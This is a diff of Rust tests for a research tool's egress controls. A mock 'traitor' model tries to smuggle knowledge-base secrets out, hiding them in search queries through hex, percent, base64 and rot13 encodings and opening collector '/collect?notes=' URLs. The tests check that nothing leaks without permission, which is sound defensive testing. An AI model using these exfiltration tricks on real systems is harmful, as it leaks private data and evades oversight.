@@ -31,8 +31,8 @@ struct Attempt {
     trace: String,
 }
 
-/// Returns every secret in every disguise.
-fn attempts() -> Vec<Attempt> {
+/// Returns secrets in every disguise.
+fn attempts(known: &[&str]) -> Vec<Attempt> {
     let of = |secret: &str| {
         let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
         let percent: String = secret.bytes().map(|byte| format!("%{byte:02X}")).collect();
@@ -44,7 +44,7 @@ fn attempts() -> Vec<Attempt> {
         let hidden = Attempt { text: percent, trace: secret.to_owned() };
         seen.chain([turned, hidden]).collect::<Vec<_>>()
     };
-    SECRETS.into_iter().flat_map(of).collect()
+    known.iter().copied().flat_map(of).collect()
 }
 
 fn base64(bytes: &[u8]) -> String {
@@ -71,7 +71,11 @@ fn rot13(text: &str) -> String {
 /// Returns what can be seen of the secrets in what came in.
 fn arrived(server: &WebServer) -> Vec<String> {
     let received = server.received_decoded();
-    attempts().into_iter().map(|attempt| attempt.trace).filter(|trace| received.contains(trace.as_str())).collect()
+    attempts(&SECRETS)
+        .into_iter()
+        .map(|attempt| attempt.trace)
+        .filter(|trace| received.contains(trace.as_str()))
+        .collect()
 }
 
 /// Makes a world with two notes that have all secrets.
@@ -116,22 +120,27 @@ fn between(models: &WebServer, outside: &WebServer) -> World {
     world
 }
 
-/// Starts models that know every secret from the first, and do what they can to send them to `collector`.
+/// Starts models that do what they can to send every secret they are shown to `collector`.
 fn traitor(collector: String) -> WebServer {
-    Setup::new(move |request| betray(request, &collector)).start()
+    Setup::new(move |request| betray(request, &known(&request.said()), &collector)).start()
 }
 
-fn betray(request: &Request, collector: &str) -> String {
+/// Returns the secrets that a prompt shows.
+fn known(words: &str) -> Vec<&'static str> {
+    SECRETS.into_iter().filter(|secret| words.contains(secret)).collect()
+}
+
+fn betray(request: &Request, known: &[&str], collector: &str) -> String {
     let words = request.said();
     let is_follow_up = words.contains("This follows up the question") || words.contains("Look up");
     let value = match request.form() {
         Some("brief") if is_follow_up => {
-            json!({ "task": loud("Look up"), "aspects": [loud("Look up"), "what others do"], "mode": "deep" })
+            json!({ "task": loud("Look up", known), "aspects": [loud("Look up", known), "what others do"], "mode": "deep" })
         }
         Some("brief") => {
             json!({ "task": QUESTION, "aspects": ["what is known of project Heron", "how others run such projects"], "mode": "deep" })
         }
-        Some("plan") => plan(&words, is_follow_up),
+        Some("plan") => plan(&words, known, is_follow_up),
         Some("verdict") => {
             let is_complete = nodes(&words).len() > 3;
             json!({
@@ -140,7 +149,7 @@ fn betray(request: &Request, collector: &str) -> String {
                 "weak_evidence_areas": [], "overall_confidence": 0.8, "relied_on": nodes(&words),
             })
         }
-        Some("step") if words.contains("the web (") => match step(&words, collector) {
+        Some("step") if words.contains("the web (") => match step(&words, known, collector) {
             Some(step) => step,
             None => return reader::say(request),
         },
@@ -149,12 +158,12 @@ fn betray(request: &Request, collector: &str) -> String {
     value.to_string()
 }
 
-/// Returns some words and every secret as it is.
-fn loud(words: &str) -> String {
-    format!("{words} {}", SECRETS.join(", "))
+/// Returns some words and secrets as they are.
+fn loud(words: &str, known: &[&str]) -> String {
+    format!("{words} {}", known.join(", "))
 }
 
-fn plan(words: &str, is_follow_up: bool) -> Value {
+fn plan(words: &str, known: &[&str], is_follow_up: bool) -> Value {
     let node = |id: &str, question: String, hint: &str, depends_on: Vec<&str>| {
         json!({
             "id": id, "question": question, "aspects": [if hint == "internal" { "a1" } else { "a2" }],
@@ -163,11 +172,11 @@ fn plan(words: &str, is_follow_up: bool) -> Value {
     };
     let is_later = words.starts_with("You go on planning");
     let new_nodes = if is_later || is_follow_up {
-        let disguised: Vec<_> = attempts().into_iter().map(|attempt| attempt.text).collect();
+        let disguised: Vec<_> = attempts(known).into_iter().map(|attempt| attempt.text).collect();
         let half = |at: usize| disguised.iter().skip(at).step_by(4).cloned().collect::<Vec<_>>().join(" ");
         vec![
-            node("loud", loud("How do others deal with"), "web", vec![]),
-            node("both", loud("What is said elsewhere of"), "mixed", vec![]),
+            node("loud", loud("How do others deal with", known), "web", vec![]),
+            node("both", loud("What is said elsewhere of", known), "mixed", vec![]),
             node("quiet", format!("What do others say of {}?", half(1)), "web", vec![]),
             node("quieter", format!("What do others say of {}?", half(2)), "web", vec![]),
         ]
@@ -179,19 +188,19 @@ fn plan(words: &str, is_follow_up: bool) -> Value {
         ]
     };
     let new_nodes = if is_later && nodes(words).len() > 3 { vec![] } else { new_nodes };
-    json!({ "reasoning": loud("It is missing:"), "new_nodes": new_nodes, "updates": [] })
+    json!({ "reasoning": loud("It is missing:", known), "new_nodes": new_nodes, "updates": [] })
 }
 
 /// Sends the next few secrets; nothing where all were sent.
-fn step(words: &str, collector: &str) -> Option<Value> {
+fn step(words: &str, known: &[&str], collector: &str) -> Option<Value> {
     let step: usize = task(words).split("This is step ").nth(1)?.split_whitespace().next()?.parse().ok()?;
     let action = |tool: &str, query: Option<String>, passage: Option<String>| json!({ "tool": tool, "query": query, "passage": passage, "quote": null, "text": null, "aspect": null });
     let search = |attempt: Attempt| action("search", Some(format!("{} elsewhere", attempt.text)), None);
     let innocent = Attempt { text: "how large projects are run".into(), trace: String::new() };
-    let mut actions: Vec<_> = std::iter::once(innocent).chain(attempts()).map(search).collect();
+    let mut actions: Vec<_> = std::iter::once(innocent).chain(attempts(known)).map(search).collect();
     let page =
         |secret: &str| action("open", None, Some(format!("{collector}/collect?notes={}", secret.replace(' ', "+"))));
-    actions.extend(SECRETS.into_iter().map(page));
+    actions.extend(known.iter().copied().map(page));
     let chunk: Vec<_> = actions.into_iter().skip((step - 1) * PER_STEP).take(PER_STEP).collect();
     (!chunk.is_empty()).then(|| json!({ "thought": "send it", "actions": chunk, "done": false }))
 }
@@ -203,21 +212,53 @@ fn report(world: &World, flags: &[&str]) -> Run {
     run
 }
 
+/// Asserts that the models were shown every secret, and none in a conversation about the web.
+fn assert_outward_prompts_are_clean(models: &WebServer) {
+    let said: Vec<_> = models.requests().iter().map(Request::said).collect();
+    let shown: BTreeSet<_> = said.iter().flat_map(|words| known(words)).collect();
+    assert_eq!(shown.len(), SECRETS.len(), "the models were told");
+    for words in said.iter().filter(|words| words.contains("by searching the web (")) {
+        assert_eq!(known(words), Vec::<&str>::new(), "{words}");
+    }
+}
+
 #[test]
-fn no_secret_arrives_by_queries_or_addresses_and_the_report_says_that_some_were_withheld() {
+fn no_secret_arrives_by_queries_or_addresses_of_a_mixed_or_a_replanned_node_and_nothing_has_to_be_withheld() {
     let outside = outside();
     let models = traitor(outside.origin().to_owned());
     let world = between(&models, &outside);
     let run = report(&world, &["--no-deep-research"]);
     assert_eq!(arrived(&outside), Vec::<String>::new(), "{run}");
+    assert_outward_prompts_are_clean(&models);
     let searches = outside.worked_on().iter().filter(|(kind, _)| *kind == Kind::SearxNg).count();
     assert!(searches > 0, "something may leave: {run}");
-    assert!(run.stdout.contains("not sent, because what the knowledge base says would have left with it"), "{run}");
-    assert!(models.received().contains(SECRETS[0]), "the model was told");
     let egress = world.dr(["show", "--egress"]).succeeded().stdout;
-    let kept: BTreeSet<_> = egress.lines().filter(|line| line.contains("(kept back: ")).collect();
-    let tried: BTreeSet<_> = attempts().into_iter().map(|attempt| attempt.text).collect();
-    assert!(tried.iter().all(|text| kept.iter().any(|line| line.contains(text.as_str()))), "{kept:#?}");
+    assert!(
+        egress.contains("query: how large projects are run elsewhere (sent"),
+        "queries leave as they are: {egress}"
+    );
+    assert!(!egress.contains("(kept back: ") && !run.stdout.contains(" not sent, because"), "{egress}\n{run}");
+}
+
+#[test]
+fn secret_that_a_model_knows_without_being_shown_trips_the_wire_and_the_report_says_so() {
+    let outside = outside();
+    let remembers = |request: &Request| match (request.form(), request.said()) {
+        (Some("step"), words) if words.contains("the web (") => {
+            let search = |secret: &str| json!({ "tool": "search", "query": format!("{secret} elsewhere") });
+            json!({ "thought": "", "actions": SECRETS.map(search), "done": true }).to_string()
+        }
+        _ => betray(request, &known(&request.said()), ""),
+    };
+    let models = Setup::new(remembers).start();
+    let world = between(&models, &outside);
+    let run = report(&world, &["--no-deep-research"]);
+    let received = outside.received_decoded();
+    assert!(SECRETS.iter().all(|secret| !received.contains(secret)), "{run}");
+    assert!(run.stdout.contains("not sent, because what the knowledge base says would have left with it"), "{run}");
+    let egress = world.dr(["show", "--egress"]).succeeded().stdout;
+    let kept: Vec<_> = egress.lines().filter(|line| line.contains("(kept back: ")).collect();
+    assert!(SECRETS.iter().all(|secret| kept.iter().any(|line| line.contains(secret))), "{kept:#?}");
 }
 
 #[test]
@@ -227,14 +268,15 @@ fn secrets_arrive_by_queries_where_the_user_lets_them() {
     let world = between(&models, &outside);
     let run = report(&world, &["--no-deep-research", "--allow-egress"]);
     let arrived = arrived(&outside);
-    let lost = attempts().into_iter().filter(|attempt| !arrived.contains(&attempt.trace));
+    let lost = attempts(&SECRETS).into_iter().filter(|attempt| !arrived.contains(&attempt.trace));
     assert_eq!(lost.map(|attempt| attempt.text).collect::<Vec<_>>(), Vec::<String>::new(), "{run}");
     assert!(!outside.received_decoded().contains("/collect"), "no page is opened because a model names it");
 }
 
 #[test]
 fn no_secret_arrives_in_what_a_job_is_told_unless_the_user_lets_it() {
-    for (source, flags, is_open) in [("web", &[][..], false), ("mixed", &[], false), ("web", &["--allow-egress"], true)]
+    for (source, flags, is_open) in
+        [("web", &[][..], false), ("mixed", &[], false), ("mixed", &["--allow-egress"], true)]
     {
         let outside = outside();
         let models = traitor(outside.origin().to_owned());
@@ -242,7 +284,7 @@ fn no_secret_arrives_in_what_a_job_is_told_unless_the_user_lets_it() {
         let world = between(&models, &outside).with_variable("SEARXNG_URL", "");
         let run = report(&world, &[&["--source", source, "--deep-research-max", "9"], flags].concat());
         let jobs = outside.jobs().len();
-        assert!(jobs > 3, "jobs of two rounds: {jobs}, {run}");
+        assert!(jobs > 0, "{source}: {run}");
         let arrived = arrived(&outside);
         assert_eq!(!arrived.is_empty(), is_open, "{arrived:?}");
     }
@@ -262,6 +304,7 @@ fn no_secret_of_an_answer_arrives_by_the_question_that_follows_it_up_unless_the_
     let run = report(&world, &follow);
     assert!(outside.count() > 0 && outside.jobs().len() == 1, "{run}");
     assert_eq!(arrived(&outside), Vec::<String>::new(), "{run}");
+    assert_outward_prompts_are_clean(&models);
     report(&world, &[&follow[..], &["--allow-egress"]].concat());
     assert!(!arrived(&outside).is_empty(), "it would be seen");
 }
@@ -283,8 +326,44 @@ fn secrets_of_a_collection_that_allows_it_arrive_and_of_no_other() {
         let run = report(&world, &[&["--no-deep-research"], searched].concat());
         assert_eq!(!arrived(&outside).is_empty(), is_open, "{searched:?}: {:?}, {run}", arrived(&outside));
         let egress = world.dr(["show", "--egress"]).succeeded().stdout;
-        let listed: Vec<_> = egress.lines().filter(|line| line.contains(SECRETS[0])).collect();
-        let kept = listed.iter().filter(|line| line.contains("(kept back: ")).count();
-        assert!(!listed.is_empty() && (kept == 0) == is_open, "{egress}");
+        assert_eq!(egress.contains(SECRETS[0]), is_open, "{egress}");
+    }
+}
+
+/// The note of a real leak, and strings of it that must not arrive.
+const RENEWAL: &str = "# Acme\n\nThe customer pays 48,731 euros a year, says Ottoline Vasquez-Ferreira. The renewal is at \
+                       risk because of late deliveries from Leipzig.\n";
+
+const OF_RENEWAL: [&str; 7] =
+    ["48,731", "48731", "Ottoline", "Vasquez", "Ferreira", "Leipzig", "renewal at risk because of late deliveries"];
+
+#[test]
+fn mixed_worker_asks_whole_questions_and_tells_the_engine_nothing_of_a_note_it_has_not_seen() {
+    let outside = outside();
+    let models = Setup::new(|request| {
+        let words = request.said();
+        if request.form() != Some("step") || !words.contains("the web (") {
+            return reader::say(request);
+        }
+        // Whatever of the note is in the prompt is searched for.
+        let seen = OF_RENEWAL.into_iter().filter(|text| words.contains(text));
+        let queries =
+            ["how do other companies keep customers who are unhappy with deliveries?"].into_iter().chain(seen);
+        let searches: Vec<_> = queries.map(|query| json!({ "tool": "search", "query": query })).collect();
+        json!({ "thought": "", "actions": searches, "done": true }).to_string()
+    })
+    .start();
+    let world = World::empty();
+    world.write_on_day(1, "kb/acme.md", RENEWAL);
+    world.dr(["index", "kb", "--no-embed", "--quiet"]).succeeded();
+    let world = models_at(world, &models).with_variable("SEARXNG_URL", outside.origin());
+    let question = "Why is the renewal of the customer at risk, and how do others keep such customers?";
+    let ask = ["ask", "--quiet", "--no-deep-research", "--source", "mixed", "--mode", "deep", question];
+    let run = world.dr(ask);
+    assert!(models.received().contains("Ferreira"), "the worker inside has read the note: {run}");
+    let received = outside.received_decoded();
+    assert!(received.contains("how do other companies keep customers who are unhappy with deliveries?"), "{received}");
+    for text in OF_RENEWAL {
+        assert!(!received.contains(text), "{text}: {received}");
     }
 }
